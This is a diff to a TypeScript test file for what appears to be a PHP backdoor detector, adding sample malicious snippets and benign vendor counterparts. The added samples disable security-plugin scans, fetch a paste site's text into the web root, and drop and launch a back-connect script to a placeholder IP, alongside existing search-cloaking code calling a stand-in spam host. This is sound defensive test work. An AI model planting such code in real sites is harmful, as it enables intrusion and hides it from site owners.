@@ -6,7 +6,8 @@
 // array filled with `$a[] =`, a file decoder that reassigns its parameter, a function name kept
 // in a doc comment, a script copied from another host as PHP, yaml_parse's tag callbacks, request
 // data written to a file that is then included, names taken from array_keys, code written
-// without letters, and SEO spam's cloaking. Defanged samples written here (the commands are `id`), beside vendor code
+// without letters, SEO spam's cloaking, security plugins turned off, a paste site's payload
+// fetched, and a back-connect script dropped in /tmp and started. Defanged samples written here (the commands are `id`), beside vendor code
 // that uses the same calls for their everyday work.
 
 import assert from 'node:assert/strict';
@@ -106,6 +107,18 @@ const backdoors: [string, string][] = [
     `<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\n$ref = $_SERVER['HTTP_REFERER'];\nif (stripos($ua, 'Googlebot') !== false) {\n  echo file_get_contents('http://spam.example.invalid/p.php?' . $_SERVER['HTTP_HOST']);\n  exit;\n}\nif (strpos(strtolower($ref), 'google') !== false) {\n  echo '<script>document.location="http://spam.example.invalid/";</script>';\n  exit;\n}\n`,
   ],
   [
+    "two security plugins' scans emptied and alerts turned off",
+    `<?php\nfunction k() {\n  $o = get_option('itsec_file_change');\n  $o['enabled'] = false;\n  update_option('itsec_file_change', $o);\n  mysql_query("update wp_wfConfig set val = '*.php' where name = 'scan_exclude'");\n}\n`,
+  ],
+  [
+    "a paste site's raw text written into the site",
+    `<?php\n$t = file_get_contents('https://pastebin.com/raw/XXXXXXXX');\nfile_put_contents($_SERVER['DOCUMENT_ROOT'] . '/x.html', $t);\n`,
+  ],
+  [
+    'a back-connect script written to /tmp and started',
+    `<?php\n$s = 'IyEvdXNyL2Jpbi9wZXJsCg==';\n$fp = fopen('/tmp/.bc', 'w');\nfputs($fp, base64_decode($s));\nfclose($fp);\nsystem('perl /tmp/.bc 192.0.2.1 4444 &');\n`,
+  ],
+  [
     "ob_start's callback built from the request in a loop",
     `<?php\n$id = $_GET['id'];\n$s = '';\nforeach (array($id) as $v) { $s .= $v; }\nob_start($s);\necho $_GET['c'];\nob_end_flush();\n`,
   ],
@@ -142,6 +155,14 @@ const vendor: [string, string][] = [
   [
     'a landing message for search visitors',
     `<?php\nif (strpos($_SERVER['HTTP_REFERER'] ?? '', 'google.') !== false) { echo '<p>Welcome, searcher</p>'; }\n`,
+  ],
+  [
+    'a security plugin keeping its own state',
+    `<?php\nfunction wf_reset() { global $wpdb; $wpdb->query("truncate {$wpdb->prefix}wfIssues"); update_option('wf_last_scan', time()); }\n`,
+  ],
+  [
+    'a report written to /tmp and mailed',
+    `<?php\n$csv = base64_decode($blob);\nfile_put_contents('/tmp/report.csv', $csv);\nexec('gzip -k ' . escapeshellarg('/tmp/report.csv'));\n`,
   ],
   ['a table of numbers', `<?php\nreturn [${Array.from({ length: 80 }, (_, i) => i * 7).join(', ')}];\n`],
   [
